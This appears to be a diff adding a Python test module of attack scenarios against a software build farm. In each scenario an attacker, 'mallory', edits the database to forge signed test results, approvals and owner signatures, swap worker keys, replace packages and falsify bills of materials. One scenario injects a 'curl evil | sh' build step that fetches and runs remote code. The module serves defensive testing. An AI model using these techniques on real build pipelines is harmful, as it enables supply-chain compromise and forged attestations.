@@ -1,0 +1,414 @@
+"""What an attacker with the database does that takes more than a statement or two: with stores, and a worker of its own."""
+
+from __future__ import annotations
+
+import json
+from dataclasses import replace
+from datetime import UTC, datetime, timedelta
+from typing import TYPE_CHECKING, Any
+
+from farm.control import access, curation
+from farm.control.access import Actor
+from farm.control.advisories import add_advisory, add_statements
+from farm.control.finishing import finish_build, finish_test
+from farm.control.leases import Holder, claim, digest_of
+from farm.control.reviews import state_reviews
+from farm.control.submission import submit
+from farm.control.vouching import check_with_workers_key
+from farm.database.states import Role
+from farm.names import Digest, canonical_json
+from farm.package import Descriptor, PackageFacts, Script
+from farm.plan import TestOrder, TestOutcome
+from farm.recipe.declared_sources import digest_of_files
+from farm.trust.approval import approval_statement
+from farm.trust.dsse import sign_statement
+from farm.trust.imports import Import, ImportedPackage
+from farm.trust.test_result import result_statement
+from tests.attack.editing import execute
+from tests.attack.liar import DISTRIBUTION, MALLORY, Liar
+from tests.attack.scenario import recipe_with_test
+from tests.compat.osv_documents import openvex, osv
+from tests.control.owned_farm import signed
+from tests.control.signed_results import run_by
+
+if TYPE_CHECKING:
+    from collections.abc import Mapping
+
+    from tests.attack.farm import AttackedFarm
+
+    Facts = Mapping[str, object]
+
+_ACTOR = Actor("token:mallory")
+_DAY = timedelta(days=1)
+_FAILED = "kind = 'test' AND name = 'broken' AND state = 'failed'"
+_LAST_FAILED = f"(SELECT MAX(id) FROM job WHERE {_FAILED})"
+_BUILD_AGAIN = (
+    "DELETE FROM package WHERE name = 'next';\n"
+    "UPDATE recipe SET built_id = NULL, built_plan = NULL, newest_plan = NULL WHERE name = 'next';\n"
+    "UPDATE job SET state = 'ready', finished_at = NULL WHERE id = "
+    "(SELECT MIN(id) FROM job WHERE kind = 'build' AND name = 'next')"
+)
+
+
+# Workers: mallory is enrolled, and on no signed list.
+
+
+def builds_otherwise(farm: AttackedFarm, facts: Facts) -> None:
+    """Let a stranger build once more what was built, and come to something else."""
+    execute(farm, _BUILD_AGAIN, facts)
+    farm.enrolled()
+    lease = claim(farm.office, farm.hands.workers["mallory"])
+    assert lease is not None
+    assert lease.job.name == "next"
+    outcome = farm.hands.outcome(lease, content="evil")
+    finish_build(farm.office, farm.hands.holder(lease), outcome, check_provenance=check_with_workers_key)
+
+
+def answers_all_tests(farm: AttackedFarm, facts: Facts) -> None:
+    """Let nobody be kept from answering tests; a stranger is quicker than the listed one."""
+    execute(
+        farm,
+        f"DELETE FROM job_exclusion;\nUPDATE job SET state = 'ready', finished_at = NULL WHERE id = {_LAST_FAILED}",
+        facts,
+    )
+    _passes(farm, "mallory")
+
+
+def takes_a_key(farm: AttackedFarm, facts: Facts) -> None:
+    """Put a stranger's key in the place of the tester's, and answer in its name."""
+    exchange = (
+        "UPDATE worker SET public_key = 'aside' WHERE name = 'tester';\n"
+        "UPDATE worker SET public_key = 'free' WHERE name = 'mallory';\n"
+        "UPDATE worker SET public_key = :mallory_key WHERE name = 'tester';\n"
+        f"UPDATE job SET state = 'ready', finished_at = NULL WHERE id = {_LAST_FAILED}"
+    )
+    execute(farm, exchange, _with_key(facts))
+    farm.hands.signers["tester"] = MALLORY
+    _passes(farm, "tester")
+
+
+def takes_a_name(farm: AttackedFarm, facts: Facts) -> None:
+    """Exchange the names of a stranger and the listed builder; the stranger builds."""
+    execute(
+        farm,
+        "UPDATE worker SET name = 'aside' WHERE name = 'builder';\nUPDATE worker SET name = 'builder' WHERE name = 'mallory';\n"
+        f"UPDATE worker SET name = 'mallory' WHERE name = 'aside';\n{_BUILD_AGAIN}",
+        facts,
+    )
+    farm.enrolled()
+    farm.hands.signers["builder"] = MALLORY
+    lease = claim(farm.office, farm.hands.workers["builder"])
+    assert lease is not None
+    outcome = farm.hands.outcome(lease, content="evil")
+    finish_build(farm.office, farm.hands.holder(lease), outcome, check_provenance=check_with_workers_key)
+
+
+def takes_a_lease(farm: AttackedFarm, facts: Facts) -> None:
+    """Invent a lease of the failed test, and report that it passed."""
+    execute(
+        farm,
+        f"UPDATE attempt SET state = 'leased', worker = 'mallory', token_digest = :token, finished_at = NULL, "
+        f"expires_at = '2999-01-01 00:00:00.000000' WHERE job_id = {_LAST_FAILED};\n"
+        f"UPDATE job SET state = 'leased', finished_at = NULL WHERE id = {_LAST_FAILED}",
+        {**facts, "token": digest_of("token")},
+    )
+    liar, farm_hands = Liar(farm), farm.enrolled()
+    (row,) = liar.rows(
+        "SELECT attempt.id, job.subject FROM attempt JOIN job ON job.id = job_id WHERE attempt.state = 'leased'"
+    )
+    order = _order(liar, row["subject"])
+    holder = Holder(farm_hands.workers["mallory"], row["id"], "token")
+    finish_test(farm.office, holder, _passed(farm, order))
+
+
+def passes_for_a_tester(farm: AttackedFarm, facts: Facts) -> None:
+    """Sign that the failed test passed; and say that the listed tester has."""
+    _forge(farm, facts, tester="(SELECT tester FROM attempt WHERE tester != '' LIMIT 1)")
+
+
+def forges_results(farm: AttackedFarm, facts: Facts) -> None:
+    """Sign that the failed test passed, under the key that has signed it."""
+    _forge(farm, facts, tester="tester")
+
+
+def _forge(farm: AttackedFarm, facts: Facts, *, tester: str) -> None:
+    liar = Liar(farm)
+    (row,) = liar.rows(f"SELECT subject FROM job WHERE id = {_LAST_FAILED}")
+    outcome = _passed(farm, _order(liar, row["subject"]))
+    execute(
+        farm,
+        f"UPDATE attempt SET state = 'succeeded', attestation = :forged, tester = {tester} WHERE job_id IN (SELECT id FROM job WHERE {_FAILED});\n"
+        f"UPDATE job SET state = 'succeeded', error_code = '' WHERE {_FAILED}",
+        {**facts, "forged": outcome.attestation},
+    )
+
+
+def _order(liar: Liar, digest: str) -> TestOrder:
+    (row,) = liar.rows("SELECT body FROM test WHERE digest = ?", digest)
+    return TestOrder.from_dict(json.loads(row["body"]))
+
+
+def _passed(farm: AttackedFarm, order: TestOrder) -> TestOutcome:
+    log = farm.office.blobs.put_bytes(b"log")
+    outcome = TestOutcome(True, 0, "", log)
+    envelope = sign_statement(result_statement(order, outcome, run_by(MALLORY)), MALLORY)
+    return replace(outcome, attestation=farm.office.blobs.put_bytes(envelope))
+
+
+def _passes(farm: AttackedFarm, name: str) -> None:
+    hands = farm.enrolled()
+    hands.is_heard_of(name)
+    lease = claim(farm.office, hands.workers[name])
+    assert lease is not None
+    assert lease.job.name == "broken"
+    hands.report_test(lease, passed=True)
+
+
+def _with_key(facts: Facts) -> dict[str, object]:
+    return {**facts, "mallory_key": MALLORY.public_key.keyval["public"]}
+
+
+# Plans and tests that honest workers carry out.
+
+
+def leases_a_malicious_plan(farm: AttackedFarm, facts: Facts) -> None:
+    """Let an honest worker carry out other steps under the recipe that an owner has signed."""
+    honest = Liar(farm).plan("next")
+    evil = replace(honest, steps=(*honest.steps, replace(honest.steps[-1], script="curl evil | sh")))
+    execute(
+        farm,
+        "INSERT INTO plan VALUES (:evil, 'dist.example.org/next', :body, 1);\n"
+        "UPDATE job SET subject = :evil WHERE kind = 'build' AND name = 'next' AND NOT rebuild;\n" + _BUILD_AGAIN,
+        {**facts, "evil": evil.digest, "body": canonical_json(evil.to_dict()).decode()},
+    )
+
+
+def leases_another_test(farm: AttackedFarm, facts: Facts) -> None:
+    """Let an honest tester run another command than the recipe's, and take its word for the recipe's."""
+    liar = Liar(farm)
+    (row,) = liar.rows(f"SELECT subject FROM job WHERE id = {_LAST_FAILED}")
+    honest = _order(liar, row["subject"])
+    softer = replace(honest, test=replace(honest.test, command=("/usr/bin/true",)))
+    execute(
+        farm,
+        "INSERT OR IGNORE INTO test VALUES (:softer, :broken2_digest, 'works', :body);\n"
+        f"UPDATE job SET subject = :softer, state = 'ready', finished_at = NULL WHERE id = {_LAST_FAILED}",
+        {**facts, "softer": softer.digest, "body": canonical_json(softer.to_dict()).decode()},
+    )
+    farm.enrolled().works()
+    execute(
+        farm,
+        "UPDATE job SET subject = :subject WHERE subject = :softer",
+        {"subject": row["subject"], "softer": softer.digest},
+    )
+
+
+# People.
+
+
+def acts_as_a_curator(farm: AttackedFarm, facts: Facts) -> None:
+    """Hold a token of a curator's, and let go what curators hold."""
+    with farm.office.writing() as desk:
+        access.issue_token(desk, name="mallory", role=Role.CURATOR, lasts=_DAY)
+        curation.lift(desk, _ACTOR, "edge", "kept")
+        curation.thaw(desk, _ACTOR, "still")
+
+
+def owns_all(farm: AttackedFarm, facts: Facts) -> None:
+    """Submit while nobody owns anything."""
+    execute(farm, "UPDATE ownership SET owners = NULL", facts)
+    submit(farm.office, {"stranger": recipe_with_test("stranger")}, submitted_by="token:mallory", trace="trace")
+
+
+def becomes_an_owner(farm: AttackedFarm, facts: Facts) -> None:
+    """Submit as one of the curators."""
+    people = {"curators": {"alice": MALLORY.public_key.keyval["public"]}}
+    execute(farm, "UPDATE ownership SET curators = :people", {"people": json.dumps(people)})
+    recipe = recipe_with_test("stranger")
+    submit(
+        farm.office,
+        {"stranger": recipe},
+        submitted_by="token:mallory",
+        trace="trace",
+        envelope=_signed_as_alice(recipe),
+    )
+
+
+def forges_an_owner(farm: AttackedFarm, facts: Facts) -> None:
+    """Submit while nobody owns anything, and say afterwards that an owner has signed: by forgery and by another's."""
+    owns_all(farm, facts)
+    recipe = recipe_with_test("stranger")
+    forged = farm.office.blobs.put_bytes(_signed_as_alice(recipe))
+    digest = digest_of_files(recipe, file="recipe.yaml")
+    execute(
+        farm,
+        "INSERT INTO recipe_signature VALUES (:recipe, :forged, 'alice', 1, '2026-11-24 12:00:00.000000');\n"
+        "INSERT INTO recipe_signature SELECT :recipe, envelope, 'alice', 1, signed_at FROM recipe_signature WHERE person = 'alice' LIMIT 1",
+        {"recipe": digest, "forged": forged},
+    )
+
+
+def takes_a_waiting_submission(farm: AttackedFarm, facts: Facts) -> None:
+    """Take what waits for its owner."""
+    owns_all(farm, facts)
+    execute(farm, "UPDATE submission SET state = 'taken'", facts)
+
+
+def exchanges_a_recipe(farm: AttackedFarm, facts: Facts) -> None:
+    """Let the recipe that an owner has signed consist of other files, and be built from these."""
+    evil = recipe_with_test("next", more="environment: {EVIL: '1'}\n")
+    kept = farm.office.shelf.keep(evil)
+    execute(
+        farm,
+        "UPDATE recipe_revision SET files = :kept WHERE name = 'next';\n"
+        "UPDATE submitted_recipe SET files = :kept WHERE name = 'next'",
+        {"kept": kept},
+    )
+    leases_a_malicious_plan(farm, facts)
+
+
+def softens_a_test(farm: AttackedFarm, facts: Facts) -> None:
+    """Let the recipe whose test fails have one that passes, under its digest."""
+    kept = farm.office.shelf.keep(recipe_with_test("broken", "2.0"))
+    execute(farm, "UPDATE recipe_revision SET files = :kept WHERE name = 'broken' AND version = '2.0'", {"kept": kept})
+
+
+def _signed_as_alice(recipe: dict[str, bytes]) -> bytes:
+    return signed("alice", recipe, key=MALLORY)
+
+
+# Packages.
+
+
+def softens_facts(farm: AttackedFarm, facts: Facts) -> None:
+    """Gather facts that no archive has."""
+    softer = PackageFacts(scripts=(Script("share/needy/x", ("/bin/sh",)),)).to_json()
+    execute(
+        farm,
+        "UPDATE package SET facts = :softer, facts_size = :size WHERE name IN ('needy', 'next')",
+        {"softer": farm.office.blobs.put_bytes(softer), "size": len(softer)},
+    )
+
+
+def vouches_itself(farm: AttackedFarm, facts: Facts) -> None:
+    """Put a package of its own in the place of an honest one, with a provenance of its own."""
+    liar = Liar(farm)
+    evil = liar.built("next", MALLORY)
+    for blob in evil.blobs:
+        farm.office.blobs.put_bytes(liar.read(blob))
+    descriptor = Descriptor.from_json(liar.read(evil.descriptor))
+    execute(
+        farm,
+        "UPDATE package SET digest = :digest, descriptor_size = :size, tree = :tree, archive = :archive, "
+        "archive_size = :archive_size, manifest_size = :manifest_size, facts = :facts, facts_size = :facts_size, "
+        "provenance = :provenance, provenance_size = :provenance_size WHERE name = 'next'",
+        {
+            "digest": descriptor.digest,
+            "size": evil.descriptor.size,
+            "tree": descriptor.tree,
+            **{key: getattr(evil, key).digest for key in ("archive", "facts", "provenance")},
+            **{f"{key}_size": getattr(evil, key).size for key in ("archive", "manifest", "facts", "provenance")},
+        },
+    )
+
+
+def lies_about_materials(farm: AttackedFarm, facts: Facts) -> None:
+    """Leave the dependencies and the toolchain out of a bill of materials."""
+    form = json.loads(farm.office.blobs.read(Digest(str(facts["next1_sbom"]))))
+    form["packages"] = form["packages"][:1]
+    lie = canonical_json(form)
+    execute(
+        farm,
+        "UPDATE package SET sbom = :lie, sbom_size = :size WHERE name = 'next'",
+        {"lie": farm.office.blobs.put_bytes(lie), "size": len(lie)},
+    )
+
+
+def names_another_recipe(farm: AttackedFarm, facts: Facts) -> None:
+    """Say that an honest package was built from a recipe that nobody has signed."""
+    recipe = recipe_with_test("next", more="# harmless\n")
+    digest, kept = digest_of_files(recipe, file="recipe.yaml"), farm.office.shelf.keep(recipe)
+    execute(
+        farm,
+        "UPDATE recipe_revision SET digest = :digest, files = :kept WHERE name = 'next';\n"
+        "UPDATE package SET recipe = :digest WHERE name = 'next'",
+        {"digest": digest, "kept": kept},
+    )
+
+
+# Channels.
+
+
+def records_a_release(farm: AttackedFarm, facts: Facts, **lies: Any) -> None:
+    """Record a release that was never decided about, as one that only has to be signed."""
+    liar = Liar(farm)
+    release = liar.compose("edge", liar.entry("viral"), **lies)
+    execute(
+        farm,
+        "UPDATE candidate SET state = 'open', decided_at = NULL WHERE id = (SELECT MAX(id) FROM candidate WHERE channel = 'edge');\n"
+        "INSERT INTO release (channel, number, candidate_id, set_digest, digest, previous, packages, released_at, trace) "
+        "SELECT 'edge', :number, MAX(id), :set, :digest, :previous, :packages, '2026-11-24 12:00:00.000000', '' "
+        "FROM candidate WHERE channel = 'edge'",
+        {
+            "number": release.number,
+            "set": release.package_set,
+            "digest": release.digest,
+            "previous": release.previous,
+            "packages": release.packages,
+        },
+    )
+
+
+def imports_of_a_stranger(farm: AttackedFarm, facts: Facts) -> None:
+    """Take a package of a stranger's distribution, which no recipe names."""
+    records_a_release(farm, facts, imports=(stranger_of(Liar(farm)),))
+
+
+def stranger_of(liar: Liar) -> Import:
+    """A release of a stranger's distribution with one package in it, of which the blobs are public."""
+    own = Descriptor.from_json(liar.read(liar.entry("lib").descriptor))
+    evil = replace(own, name=replace(own.name, distribution="evil.example.org", short="evil"))
+    kept = liar.keep(evil.to_json())
+    liar.farm.office.blobs.put_bytes(evil.to_json())
+    packages = (ImportedPackage("evil", kept.digest),)
+    return Import(
+        distribution="evil.example.org",
+        channel="edge",
+        number=1,
+        release=Digest.of(b"release"),
+        root=Digest.of(b"root"),
+        address="https://evil.example.org/",
+        packages=packages,
+    )
+
+
+# Curators.
+
+
+def approves_itself(farm: AttackedFarm, facts: Facts) -> None:
+    """Sign approvals in a curator's name."""
+    rows = ("lone1", "reported1", "vuln1")
+    for row in rows:
+        descriptor = Descriptor.from_json(farm.office.blobs.read(Digest(str(facts[f"{row}_digest"]))))
+        envelope = sign_statement(approval_statement(descriptor, channel="stable", curator="alice"), MALLORY)
+        execute(
+            farm,
+            "INSERT OR REPLACE INTO approval VALUES ('stable', :package, 'alice', :envelope, '2026-11-24 12:00:00.000000')",
+            {"package": descriptor.digest, "envelope": envelope.decode()},
+        )
+
+
+def states_that_it_is_harmless(farm: AttackedFarm, facts: Facts) -> None:
+    with farm.office.writing() as desk:
+        add_statements(desk, _ACTOR, openvex(product=f"{DISTRIBUTION}/vuln"))
+
+
+def withdraws_the_advisory(farm: AttackedFarm, facts: Facts) -> None:
+    with farm.office.writing() as desk:
+        newer = "2024-11-21T10:00:00Z"
+        add_advisory(desk, _ACTOR, osv(package="vuln", fixed="", modified=newer, withdrawn=newer))
+
+
+def invents_reviews(farm: AttackedFarm, facts: Facts) -> None:
+    with farm.office.writing() as desk:
+        state_reviews(desk, _ACTOR, ["vuln", "lib"], "https://cve.example.org/", at=datetime.now(UTC))
